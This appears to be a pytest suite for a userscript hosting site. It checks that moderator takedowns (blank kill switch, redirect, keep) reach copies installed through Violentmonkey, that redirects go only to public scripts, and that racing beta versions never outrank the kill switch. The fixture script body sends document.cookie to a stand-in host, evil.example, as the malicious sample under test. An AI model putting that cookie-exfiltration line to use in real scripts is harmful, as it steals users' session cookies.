"""Takedowns as script managers see them: a report upheld with the action `delete`, then a
copy installed the way Violentmonkey installs it updates to the kill switch after `blank`,
follows the other script after `redirect`, and gets 410 after `keep`; the script's versions
are gone with it."""

from __future__ import annotations

import uuid
from typing import Any

import httpx
import pytest

from scripthub.domain.version_ordering import compare_tampermonkey, compare_violentmonkey
from tests.api.client import Api, assert_problem
from tests.api.report_calls import filed, moderator, resolve
from tests.api.script_calls import post_version, publish
from tests.script_managers import ViolentmonkeyCopy, metadata
from tests.userscripts import userscript


def _code(name: str, version: str) -> str:
    return userscript(
        version,
        f"namespace {name.lower()}.example",
        "match https://example.com/*",
        "grant GM_xmlhttpRequest",
        name=name,
        body="fetch('https://evil.example/steal?c=' + document.cookie);\n",
    )


async def _published(api: Api, name: str, version: str = "1.0") -> dict[str, Any]:
    token = (await api.register())["access_token"]
    return await publish(api, token, code=_code(name, version))


def _install_url(script: dict[str, Any]) -> str:
    return f"/api/scripts/{script['id']}/{script['slug']}.user.js"


async def taken_down(
    api: Api, script: dict[str, Any], mode: str, redirect_to: str | None = None
) -> httpx.Response:
    """A report of the script, upheld by a moderator with the action `delete` in `mode`."""
    reporter = (await api.verified_user())["access_token"]
    report = await filed(api, reporter, script["id"])
    target = {} if redirect_to is None else {"redirect_to": redirect_to}
    return await resolve(
        api,
        await moderator(api),
        report["id"],
        decision="uphold",
        action="delete",
        mode=mode,
        **target,
    )


async def took_down(
    api: Api, script: dict[str, Any], mode: str, redirect_to: str | None = None
) -> None:
    response = await taken_down(api, script, mode, redirect_to)
    assert response.status_code == 200, response.text


async def test_after_blank_an_installed_copy_updates_to_the_kill_switch(api: Api) -> None:
    script = await _published(api, "Cookie Jar", "1.4.2")
    copy = await ViolentmonkeyCopy.install(api.client, _install_url(script))
    assert not await copy.check_update()  # the cache is warm with 1.4.2

    await took_down(api, script, "blank")

    assert await copy.check_update()
    meta = copy.meta
    assert (meta["name"], meta["namespace"]) == ("Cookie Jar", "cookie jar.example")
    assert compare_violentmonkey("1.4.2", meta["version"]) < 0
    assert compare_tampermonkey("1.4.2", meta["version"]) < 0
    assert copy.code.rstrip().endswith("==/UserScript==")  # nothing runs
    assert "grant" not in meta or meta["grant"] == "none"
    assert meta["updateURL"].endswith(f"/api/scripts/{script['id']}/{script['slug']}.meta.js")
    assert not await copy.check_update()
    # Gone from the catalogue and its old versions, served only as the kill switch.
    assert_problem(await api.get(f"/api/scripts/{script['id']}"), 404, "not_found")
    assert_problem(await api.get(f"/api/scripts/{script['id']}/versions/1.4.2/raw"), 410, "gone")


async def test_after_redirect_an_installed_copy_follows_the_other_script(api: Api) -> None:
    script = await _published(api, "Cookie Jar", "1.0")
    target = await _published(api, "Safe Jar", "2.0")
    copy = await ViolentmonkeyCopy.install(api.client, _install_url(script))

    await took_down(api, script, "redirect", target["id"])

    moved = await api.get(
        f"/api/scripts/{script['id']}/{script['slug']}.meta.js", follow_redirects=False
    )
    assert moved.status_code == 301
    assert moved.headers["location"].endswith(
        f"/api/scripts/{target['id']}/{target['slug']}.meta.js"
    )
    raw = await api.get(f"/api/scripts/{script['id']}/raw", follow_redirects=False)
    assert (raw.status_code, raw.headers["location"].rsplit("/api", 1)[1]) == (
        301,
        f"/scripts/{target['id']}/raw",
    )
    assert await copy.check_update()
    assert copy.meta["name"] == "Safe Jar"
    assert copy.meta["version"] == "2.0"
    assert target["id"] in copy.meta["updateURL"]
    assert not await copy.check_update()  # now on the other script's own URLs
    assert 301 not in copy.statuses[-2:]


async def test_after_keep_the_code_routes_are_gone_and_a_copy_stays_as_it_is(api: Api) -> None:
    script = await _published(api, "Cookie Jar")
    copy = await ViolentmonkeyCopy.install(api.client, _install_url(script))
    installed = copy.code

    await took_down(api, script, "keep")

    assert not await copy.check_update()
    assert copy.statuses[-1] == 410
    assert copy.code == installed
    for path in ("raw", "meta", f"{script['slug']}.user.js", "versions/1.0/raw"):
        assert_problem(await api.get(f"/api/scripts/{script['id']}/{path}"), 410, "gone")
    # By slug it names nothing any more: the slug is free for another script.
    assert_problem(await api.get(f"/api/scripts/{script['slug']}/raw"), 404, "not_found")


async def test_a_suspended_authors_kill_switch_still_reaches_the_copies(api: Api) -> None:
    owner = await api.register()
    script = await publish(api, owner["access_token"], code=_code("Cookie Jar", "1.0"))
    copy = await ViolentmonkeyCopy.install(api.client, _install_url(script))
    await took_down(api, script, "blank")
    admin = await api.admin()

    suspended = await api.send(
        "PATCH",
        f"/api/users/{owner['user']['id']}/status",
        admin["access_token"],
        json={"account_status": "suspended"},
    )

    assert suspended.status_code == 200, suspended.text
    assert await copy.check_update()
    assert metadata(copy.code)["description"].startswith("Removed by ScriptHub's moderators")


async def test_the_kill_switch_follows_every_version_even_a_greater_looking_one(api: Api) -> None:
    owner = await api.register()
    script = await publish(api, owner["access_token"], code=_code("Cookie Jar", "9.0"))
    response = await post_version(
        api, owner["access_token"], script["id"], code=_code("Cookie Jar", "10.0.1")
    )
    assert response.status_code == 201, response.text

    await took_down(api, script, "blank")

    versions = (await api.get(f"/api/scripts/{script['id']}/{script['slug']}.meta.js")).text
    assert metadata(versions)["version"] == "11"


@pytest.mark.parametrize(
    ("target", "says"),
    [
        ("self", "another script"),
        ("missing", "public script"),
        ("private", "public script"),
    ],
)
async def test_a_redirect_goes_to_another_public_script_only(
    api: Api, target: str, says: str
) -> None:
    script = await _published(api, "Cookie Jar")
    owner = (await api.register())["access_token"]
    private = await publish(api, owner, code=_code("Hidden", "1.0"), visibility="private")
    redirect_to = {"self": script["id"], "missing": str(uuid.uuid4()), "private": private["id"]}

    refused = await taken_down(api, script, "redirect", redirect_to[target])

    problem = assert_problem(refused, 422, "validation_error")
    assert problem["errors"][0]["field"] == "redirect_to"
    assert says in problem["errors"][0]["message"]
    assert (await api.get(f"/api/scripts/{script['id']}/raw")).status_code == 200


async def test_a_beta_published_as_the_script_is_blanked_never_outranks_the_kill_switch(
    api: Api,
) -> None:
    token = await moderator(api)
    for _ in range(8):
        owner = (await api.register())["access_token"]
        script = await publish(api, owner, code=_code("Cookie Jar", "1.0"))
        reporter = (await api.verified_user())["access_token"]
        report = await filed(api, reporter, script["id"])
        requests = [
            api.request(
                "POST",
                f"/api/scripts/{script['id']}/versions",
                owner,
                json={"code": _code("Cookie Jar", "50.0"), "channel": "beta"},
            ),
            api.request(
                "POST",
                f"/api/reports/{report['id']}/resolve",
                token,
                json={"decision": "uphold", "action": "delete", "mode": "blank"},
            ),
        ]

        beta, resolution = await api.at_once(*requests)

        assert resolution.status_code == 200, resolution.text
        # A copy on the beta channel may run 50.0 once the beta was published.
        installed = {"": "1.0", "beta/": "50.0" if beta.status_code == 201 else "1.0"}
        for channel, copy in installed.items():
            served = await api.get(f"/api/scripts/{script['id']}/{channel}{script['slug']}.meta.js")
            assert served.status_code == 200, (beta.status_code, channel, served.text)
            version = metadata(served.text)["version"]
            assert compare_violentmonkey(copy, version) < 0, (beta.status_code, channel, version)
            assert compare_tampermonkey(copy, version) < 0, (beta.status_code, channel, version)
